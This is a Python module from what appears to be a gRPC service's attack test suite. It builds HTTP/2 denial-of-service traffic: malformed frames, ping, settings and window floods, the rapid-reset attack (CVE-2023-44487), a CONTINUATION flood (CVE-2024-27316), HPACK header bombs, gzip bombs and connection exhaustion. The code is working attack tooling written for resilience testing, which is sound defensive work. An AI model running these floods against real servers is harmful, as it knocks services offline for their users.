"""Attacks written frame by frame: bytes that are not HTTP/2, and floods of valid HTTP/2."""

from __future__ import annotations

import asyncio
import struct
import zlib
from collections.abc import Callable, Iterator
from contextlib import AsyncExitStack
from dataclasses import dataclass

from tests.attack.stack import BAD, MIB, SERVICES, Attacked, ProcessState, files_allowed
from tests.fakes.http2 import (
    ACK,
    END_HEADERS,
    END_STREAM,
    INITIAL_WINDOW_SIZE,
    MAX_CONCURRENT_STREAMS,
    PADDED,
    PREFACE,
    PRIORITISED,
    Kind,
    Wire,
    field_of,
    frame,
    head,
    message,
    number,
    opening,
    reset,
    settings,
    wire,
)
from tests.fakes.waiting import PATIENCE_S

WATCH = "/grpc.health.v1.Health/Watch"
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(32)) + b"\x00" * 163
KEY = (("x-api-key", BAD),)
REPEATED = (
    *((":method", "GET"), (":scheme", "https"), (":authority", "other"), ("content-type", "text/html")),
    *(("te", "gzip"), ("grpc-timeout", "1n"), ("grpc-encoding", "gzip"), ("content-length", "9")),
)


@dataclass(frozen=True)
class Sent:
    name: str
    data: bytes
    handshake: bool = True


def cases() -> Iterator[Sent]:
    call = head(WATCH)
    whole = END_HEADERS | END_STREAM
    yield Sent("nothing", b"", handshake=False)
    yield Sent("noise", bytes(range(256)) * 64, handshake=False)
    yield Sent("TLS", CLIENT_HELLO, handshake=False)
    yield Sent("HTTP/1.1", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", handshake=False)
    yield Sent("an endless line", b"GET /" + b"a" * MIB, handshake=False)
    yield Sent("half a preface", PREFACE[:13], handshake=False)
    yield Sent("a preface and no settings", PREFACE + opening(1, WATCH), handshake=False)
    yield Sent("a frame that says more than it has", frame(Kind.DATA, 0, 1, b"x", length=16_000))
    yield Sent("a frame beyond the largest", frame(Kind.DATA, 0, 1, b"x" * 100_000))
    yield Sent("a frame that says 16 MiB", frame(Kind.HEADERS, 0, 1, b"", length=2**24 - 1))
    yield Sent("data on no stream", frame(Kind.DATA, 0, 0, b"x"))
    yield Sent("data on an idle stream", frame(Kind.DATA, 0, 7, message(b"")))
    yield Sent("headers on no stream", frame(Kind.HEADERS, whole, 0, call))
    yield Sent("an even stream", frame(Kind.HEADERS, whole, 2, call))
    yield Sent("streams that go back", opening(9, WATCH) + opening(3, WATCH))
    yield Sent("a continuation of nothing", frame(Kind.CONTINUATION, END_HEADERS, 1, call))
    yield Sent(
        "headers that are interrupted", frame(Kind.HEADERS, 0, 1, call[:5]) + frame(Kind.PING, 0, 0, b"8" * 8)
    )
    yield Sent("more padding than frame", frame(Kind.HEADERS, whole | PADDED, 1, b"\xff" + call[:20]))
    yield Sent(
        "a stream that depends on itself", frame(Kind.HEADERS, whole | PRIORITISED, 1, b"\0\0\0\1\0" + call)
    )
    yield Sent("an index of no header", frame(Kind.HEADERS, whole, 1, b"\xff\xff\xff\x07"))
    yield Sent("an integer without end", frame(Kind.HEADERS, whole, 1, b"\xff" * 64))
    yield Sent("a table of 4 GiB", frame(Kind.HEADERS, whole, 1, number(2**32 - 1, 5, 0x20) + call))
    yield Sent("a name that is cut off", frame(Kind.HEADERS, whole, 1, b"\x40\x7fabc"))
    yield Sent("bad huffman", frame(Kind.HEADERS, whole, 1, b"\x40\x8a" + b"\xff" * 10 + b"\x01x"))
    yield Sent("upper case", frame(Kind.HEADERS, whole, 1, call + field_of("X-Up", "a")))
    yield Sent(
        "a header with line breaks", frame(Kind.HEADERS, whole, 1, call + field_of("x", "a\r\nb: c\0"))
    )
    yield Sent("a late pseudo header", frame(Kind.HEADERS, whole, 1, call + field_of(":path", "/other")))
    for name, value in REPEATED:
        yield Sent(f"{name} twice", frame(Kind.HEADERS, whole, 1, call + field_of(name, value)))
    yield Sent("no path", frame(Kind.HEADERS, whole, 1, field_of(":method", "POST")))
    yield Sent(
        "a path of bytes", opening(1, "/\udcff/x".encode("utf-8", "surrogateescape").decode("latin-1"))
    )
    yield Sent("another method", frame(Kind.HEADERS, whole, 1, field_of(":method", "CONNECT") + call))
    yield Sent("settings of 5 bytes", frame(Kind.SETTINGS, 0, 0, b"12345"))
    yield Sent("an ack that says something", frame(Kind.SETTINGS, ACK, 0, b"123456"))
    yield Sent("a window beyond 31 bits", settings((INITIAL_WINDOW_SIZE, 2**32 - 1)))
    yield Sent("frames of 0 bytes at most", settings((5, 0)))
    yield Sent("a ping of 3 bytes", frame(Kind.PING, 0, 0, b"abc"))
    yield Sent("a window that grows by nothing", frame(Kind.WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)))
    yield Sent("windows that overflow", frame(Kind.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2)
    yield Sent("the end of an idle stream", reset(11))
    yield Sent("a push", frame(Kind.PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + call))
    yield Sent("frames of no kind", frame(0xFA, 0xFF, 1, b"x" * 100) * 100)
    yield Sent("goodbye, and more", frame(Kind.GOAWAY, 0, 0, b"\0" * 8) + opening(1, WATCH))
    yield Sent(
        "another content type",
        frame(Kind.HEADERS, whole, 1, call.replace(b"application/grpc", b"application/jsonx")),
    )
    yield Sent("a method that is none", opening(1, "/galley.v1.Generation/" + "x" * 4000))


async def nonsense(address: str) -> None:
    for case in cases():
        async with wire(address) as attacker:
            if case.handshake:
                await attacker.begin()
            await attacker.send(case.data)
            attacker.half_close()
            await attacker.ends()


async def _flood(attacker: Wire, data: bytes, times: int) -> None:
    piece = max(1, 65536 // len(data))
    for _ in range(0, times, piece):
        if not await attacker.send(data * piece):
            return


FLOODS = {
    "settings": settings((INITIAL_WINDOW_SIZE, 65535)),
    "pings": frame(Kind.PING, payload=b"12345678"),
    "acknowledged pings": frame(Kind.PING, ACK, payload=b"12345678"),
    "windows": frame(Kind.WINDOW_UPDATE, payload=struct.pack(">I", 1)),
    "priorities": frame(Kind.PRIORITY, stream=1, payload=b"\0\0\0\3\x10"),
    "empty data": frame(Kind.DATA, 0, 1),
    "padding": frame(Kind.DATA, PADDED, 1, b"\xff" + b"\0" * 255),
    "empty headers": frame(Kind.CONTINUATION, 0, 1),
}


async def flood_of(address: str, name: str, times: int) -> None:
    async with wire(address) as attacker:
        await attacker.begin()
        handshake = frame(Kind.HEADERS, 0, 1, head(WATCH)) if name == "empty headers" else opening(1, WATCH)
        await attacker.send(handshake)
        await _flood(attacker, FLOODS[name], times)


async def rapid_resets(address: str, connections: int, streams: int) -> None:
    """Open calls and reset them at once (CVE-2023-44487)."""
    for _ in range(connections):
        async with wire(address) as attacker:
            await attacker.begin()
            for first in range(1, 2 * streams, 100):
                pairs = ((opening(stream, WATCH), reset(stream)) for stream in range(first, first + 100, 2))
                if not await attacker.send(*(part for pair in pairs for part in pair)):
                    break


NO_END = "a name without end"
HEADER_BOMBS = {
    "one of 1 MiB": [field_of("x-bomb", "a" * MIB)],
    "100,000 of them": [field_of(f"x-{i}", "a") for i in range(100_000)],
    "one name, 60,000 times": [field_of("x-bomb", "a")] * 60_000,
    # Put a pair of 4 KiB into the HPACK table, then refer to it with one byte each.
    "4 KiB a byte": [field_of("x-bomb", "a" * 4000, indexed=True), b"\xbe" * 200_000],
    NO_END: [b"\x40" + number(2**31, 7) + b"a" * MIB],
    "a key of 1 MiB": [field_of("authorization", "Bearer " + "k" * MIB)],
    "bytes": [field_of("x-bomb-bin", b"A" * MIB)],
}


def end_of_bomb(name: str) -> str:
    """Return how a header bomb must end: RESOURCE_EXHAUSTED, or for what is no header its connection."""
    return "closed" if name == NO_END else "8"


async def header_bomb(address: str, name: str) -> str:
    block = head(WATCH) + b"".join(HEADER_BOMBS[name])
    pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    async with wire(address) as attacker:
        await attacker.begin()
        await attacker.send(frame(Kind.HEADERS, 0, 1, pieces[0]))
        for piece in pieces[1:-1]:
            await attacker.send(frame(Kind.CONTINUATION, 0, 1, piece))
        await attacker.send(frame(Kind.CONTINUATION, END_HEADERS, 1, pieces[-1]))
        await attacker.send(frame(Kind.DATA, END_STREAM, 1, message(b"")))
        return await attacker.status(1)


async def endless_headers(address: str, frames: int) -> None:
    """Send a header block of `frames` frames of 16 kB (a CONTINUATION flood, as in CVE-2024-27316)."""
    piece = frame(Kind.CONTINUATION, 0, 1, field_of("x", "a" * 16_000))
    async with wire(address) as attacker:
        await attacker.begin()
        await attacker.send(frame(Kind.HEADERS, 0, 1, head(WATCH)))
        await _flood(attacker, piece, frames)


def gzip_bomb(size: int) -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return b"".join((*(packer.compress(bytes(MIB)) for _ in range(size // MIB)), packer.flush()))


async def gzip_bombs(address: str, path: str, data: bytes, times: int) -> list[tuple[str, str]]:
    streams = range(1, 2 * times, 2)
    async with wire(address) as attacker:
        await attacker.begin()
        for stream in streams:
            handshake = opening(stream, path, (("grpc-encoding", "gzip"), *KEY))
            await attacker.send(handshake, in_frames(stream, message(data, compressed=1)))
        statuses = [(await attacker.status(stream), stream) for stream in streams]
        return [
            (status, attacker.received.heads[stream].get("grpc-message", "")) for status, stream in statuses
        ]


def in_frames(stream: int, data: bytes, size: int = 16_000) -> bytes:
    pieces = [data[at : at + size] for at in range(0, len(data), size)]
    last = frame(Kind.DATA, END_STREAM, stream, pieces.pop())
    return b"".join((*(frame(Kind.DATA, 0, stream, piece) for piece in pieces), last))


_REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_VERIFY, _PROPOSE = "/galley.v1.Target/VerifyStream", "/galley.v1.Draft/ProposeStream"
_OTHER_FILES = 500
# gRPC drops connections at random while more than 1,000 wait at one acceptor.
_AT_ONCE = 5


class _Holder:
    def __init__(self, stack: Attacked, opened: AsyncExitStack, before: ProcessState) -> None:
        self.wires: list[Wire] = []
        self._stack = stack
        self._opened = opened
        self._calls = {name: before.calls(name) for name in SERVICES}

    async def hold(self, name: str, path: str, streams: int) -> None:
        """Return once the streams are open."""
        while streams > 0:
            attacker = await self._opened.enter_async_context(wire(self._stack.addresses[name]))
            self.wires.append(attacker)
            await attacker.begin()
            taken = min(streams, 100, attacker.received.settings.get(MAX_CONCURRENT_STREAMS, 100))
            for stream in range(1, 2 * taken, 2):
                request = frame(Kind.DATA, 1, stream, message(b"")) if path == WATCH else b""
                await attacker.send(opening(stream, path, KEY), request)
            streams -= taken
            self._calls[name] += taken
            if not streams or not len(self.wires) % _AT_ONCE:
                there = await self._stack.after_calls(name, self._calls[name])
                assert there >= self._calls[name], f"{name}: only {there} streams are open"


async def idle_streams(
    stack: Attacked, opened: AsyncExitStack, before: ProcessState, items: int
) -> list[Wire]:
    """Open idle streams beside those of `before`: half at each replica, and 100 watches and reflections."""
    holder = _Holder(stack, opened, before)
    await holder.hold("target", _VERIFY, items // 2)
    await holder.hold("draft", _PROPOSE, items // 2)
    await holder.hold("gateway", WATCH, 100)
    await holder.hold("gateway", _REFLECT, 100)
    return holder.wires


async def idle_connections(stack: Attacked, opened: AsyncExitStack, count: int) -> int:
    count = min(count, files_allowed() - _OTHER_FILES)
    for _ in range(count):
        attacker = await opened.enter_async_context(wire(stack.gateway))
        await attacker.begin()
    return count


async def connections_until(holds: Callable[[], bool], stack: Attacked, opened: AsyncExitStack) -> None:
    """Open connections to every port until the condition holds."""
    async with asyncio.timeout(PATIENCE_S):
        while not holds():
            for address in (*stack.addresses.values(), *stack.metrics.values()):
                await opened.enter_async_context(wire(address))
